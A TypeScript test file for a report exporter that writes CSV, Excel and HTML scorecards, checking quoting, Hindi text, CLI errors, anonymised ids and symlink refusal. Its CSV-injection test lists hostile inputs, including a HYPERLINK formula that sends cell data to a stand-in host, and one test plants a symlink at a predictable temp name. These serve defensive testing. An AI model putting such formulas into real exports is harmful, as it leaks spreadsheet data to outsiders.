import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../cli/cli';
import { csvField, parseCsv, toCsv } from './csv';
import { writeReport } from './index';
import { ACTORS, buildFixtureLedger, HINDI_S1, PROBLEM_MESSAGE, STATION_B_NAME } from './test-fixture';

let db: string;
let out: string;
beforeAll(async () => {
  db = await buildFixtureLedger();
  out = mkdtempSync(path.join(tmpdir(), 'sw-report-out-'));
});

function allFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? allFiles(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}

describe('CSV', () => {
  it('neutralises text a spreadsheet would run as a formula (OWASP CSV injection), keeps numbers, reads back', () => {
    const hostile = ['=HYPERLINK("http://x.example/?a="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\r=1+1'];
    for (const h of hostile) expect(csvField(h).replace(/^"/, '').startsWith("'")).toBe(true);
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField('plain = fine')).toBe('plain = fine');
    const text = toCsv({ name: 't', title: 'T', columns: [{ header: 'name', kind: 'text' }, { header: 'n', kind: 'num' }], rows: hostile.map((h, i) => [h, -i]) });
    const back = parseCsv(text).slice(1);
    expect(back.map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
    expect(back.map((r) => r[1])).toEqual(hostile.map((_, i) => String(-i)));
  });

  it('quotes commas, quotes, CR and LF per RFC 4180, CRLF line ends, BOM', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('x\r\ny')).toBe('"x\r\ny"');
    expect(csvField(null)).toBe('');
    const text = toCsv({ name: 't', title: 'T', columns: [{ header: 'a', kind: 'text' }, { header: 'b', kind: 'int' }], rows: [['1,"2"\n3', 4], [HINDI_S1, null]] });
    expect(text.startsWith('\uFEFFa,b\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([['a', 'b'], ['1,"2"\n3', '4'], [HINDI_S1, '']]);
  });

  it('writes one file per table with Hindi text and awkward fields intact', async () => {
    const dir = path.join(out, 'csv');
    const { files } = await writeReport(db, { format: 'csv', out: dir });
    expect(files.map((f) => path.basename(f)).sort()).toEqual(
      [...['adoptions', 'deviations', 'hot_spots', 'integrity'].map((n) => `${n}.csv`), 'metadata.json', 'README.txt', ...['runs', 'standards', 'station_status', 'stations', 'summary'].map((n) => `${n}.csv`)].sort(),
    );
    const hot = parseCsv(readFileSync(path.join(dir, 'hot_spots.csv'), 'utf8'));
    expect(hot[0]).toContain('step text (hi)');
    expect(hot[1]?.[4]).toBe(HINDI_S1);
    const integ = parseCsv(readFileSync(path.join(dir, 'integrity.csv'), 'utf8'));
    expect(integ[1]?.[(integ[0] as string[]).indexOf('message')]).toBe(PROBLEM_MESSAGE);
    expect(integ[1]?.[(integ[0] as string[]).indexOf('station name')]).toBe(STATION_B_NAME);
    const stations = parseCsv(readFileSync(path.join(dir, 'stations.csv'), 'utf8'));
    expect(stations.some((r) => r[2] === STATION_B_NAME)).toBe(true);
    const dev = parseCsv(readFileSync(path.join(dir, 'deviations.csv'), 'utf8'));
    const dh = dev[0] as string[];
    const ool = dev.find((r) => r[dh.indexOf('kind')] === 'out-of-limits');
    expect([ool?.[dh.indexOf('value')], ool?.[dh.indexOf('lower limit')], ool?.[dh.indexOf('upper limit')], ool?.[dh.indexOf('unit')], ool?.[dh.indexOf('reason')]]).toEqual(['7', '4', '6', 'mm', 'NO_GLUE']);
    expect(ool?.[dh.indexOf('at (station local time)')]).toBe('2026-03-02 08:05:00');
    const runs = parseCsv(readFileSync(path.join(dir, 'runs.csv'), 'utf8'));
    const rh = runs[0] as string[];
    const abandoned = runs.filter((r) => r[rh.indexOf('outcome')] === 'abandoned');
    expect(abandoned.map((r) => [r[rh.indexOf('reason abandoned')], r[rh.indexOf('ended at (station local time)')], r[rh.indexOf('station name')]])).toEqual([['NO_GLUE', '2026-03-03 08:15:00', STATION_B_NAME]]);
    const summary = parseCsv(readFileSync(path.join(dir, 'summary.csv'), 'utf8'));
    const h = summary[0] as string[];
    expect(summary[1]?.[h.indexOf('on-time rate')]).toBe('0.5');
    expect(summary[1]?.[h.indexOf('repeat rate')]).toBe('0.5');
  });
});

describe('Excel and HTML', () => {
  it('the workbook opens with exceljs, has the sheets and the right numbers', async () => {
    const file = path.join(out, 'card.xlsx');
    await writeReport(db, { format: 'xlsx', out: file });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const names = wb.worksheets.map((w) => w.name);
    for (const n of ['Summary', 'Runs', 'Deviations', 'Integrity', 'Hot spots']) expect(names).toContain(n);
    const ws = wb.getWorksheet('Summary');
    const header = (ws?.getRow(1).values as unknown[]).map(String);
    const col = header.indexOf('on-time rate');
    expect(ws?.getRow(2).getCell(col).value).toBe(0.5);
    expect(ws?.getRow(2).getCell(col).numFmt).toBe('0.0%');
    expect(ws?.getRow(1).font?.bold).toBe(true);
    expect(ws?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(wb.getWorksheet('Runs')?.rowCount).toBe(5);
    expect(wb.getWorksheet('Hot spots')?.getRow(2).getCell(5).value).toBe(HINDI_S1);
  });

  it('the HTML page is self-contained with charts, tables, lang and Hindi text', async () => {
    const file = path.join(out, 'card.html');
    await writeReport(db, { format: 'html', out: file });
    const html = readFileSync(file, 'utf8');
    expect(html).toContain('<html lang="en">');
    expect(html).toContain('<svg role="img"');
    expect(html).toContain('id="tbl-stations"');
    expect(html).toContain('id="tbl-hot"');
    expect(html).toContain('@media print');
    expect(html).toContain(`lang="hi">गोंद जाँचें, फिर &quot;हस्ताक्षर&quot; करें`);
    expect(html).not.toMatch(/(src|href)="https?:/);
  });

  it('no raw artisan id appears in any export file', async () => {
    for (const f of allFiles(out)) {
      const text = f.endsWith('.xlsx') ? JSON.stringify((await new ExcelJS.Workbook().xlsx.readFile(f)).worksheets.map((w) => w.getSheetValues())) : readFileSync(f, 'utf8');
      for (const a of ACTORS) expect(text, `${f} contains ${a}`).not.toContain(a);
      if (f.endsWith('runs.csv')) expect(text).toMatch(/artisan-[0-9a-f]{12}/);
    }
  });
});

describe('steadywork report', () => {
  const io = () => {
    const o = { out: '', err: '' };
    return { o, io: { out: (t: string) => void (o.out += t), err: (t: string) => void (o.err += t), env: {} } };
  };
  it('exit 0 and names the files written', async () => {
    const { o, io: cio } = io();
    const file = path.join(out, 'cli.html');
    expect(await runCli(['report', '--db', db, '--format', 'html', '--out', file], cio)).toBe(0);
    expect(o.out).toContain(file);
  });
  it('exit 2 for bad usage', async () => {
    for (const args of [[], ['--db', db], ['--db', db, '--format', 'pdf', '--out', 'x'], ['--db', db, '--format', 'csv'], ['--db', db, '--format', 'csv', '--out', out, '--from', '3 March'], ['--bogus']]) {
      const { o, io: cio } = io();
      expect(await runCli(['report', ...args], cio), args.join(' ')).toBe(2);
      expect(o.err).toMatch(/steadywork report: .+/);
    }
  });
  it('exit 2 for a missing or unreadable database, naming the file', async () => {
    const { o, io: cio } = io();
    const missing = path.join(out, 'nope.duckdb');
    expect(await runCli(['report', '--db', missing, '--format', 'csv', '--out', path.join(out, 'x')], cio)).toBe(2);
    expect(o.err).toContain(missing);
    expect(o.err).toContain('steadywork import');
    const { o: o2, io: cio2 } = io();
    const notDb = path.join(out, 'card.html');
    expect(await runCli(['report', '--db', notDb, '--format', 'csv', '--out', path.join(out, 'y')], cio2)).toBe(2);
    expect(o2.err).toContain(notDb);
  });
});

describe('exports never follow links', () => {
  it('an export path that is a symbolic link is refused and what it points to is untouched; the temporary name is not guessable', async () => {
    const { symlinkSync, writeFileSync, readdirSync: ls } = await import('node:fs');
    const dir = mkdtempSync(path.join(tmpdir(), 'sw-report-link-'));
    const victim = path.join(dir, 'victim.txt');
    writeFileSync(victim, 'keep me');
    const linked = path.join(dir, 'scorecard.html');
    symlinkSync(victim, linked);
    await expect(writeReport(db, { format: 'html', out: linked })).rejects.toMatchObject({ code: 'EXPORT_LINK' });
    const csvLink = path.join(dir, 'csv-link');
    symlinkSync(dir, csvLink);
    await expect(writeReport(db, { format: 'csv', out: csvLink })).rejects.toMatchObject({ code: 'EXPORT_LINK' });
    // The old predictable temporary name (<out>.tmp-<pid>.xlsx), planted as a link, is never written through.
    const xlsx = path.join(dir, 'scorecard.xlsx');
    symlinkSync(victim, `${xlsx}.tmp-${process.pid}.xlsx`);
    await writeReport(db, { format: 'xlsx', out: xlsx });
    expect(readFileSync(victim, 'utf8')).toBe('keep me');
    expect(readFileSync(xlsx).subarray(0, 2).toString('latin1')).toBe('PK');
    expect(ls(dir).filter((n) => n.includes('.tmp-') && !n.endsWith(`${process.pid}.xlsx`))).toEqual([]);
  });
});
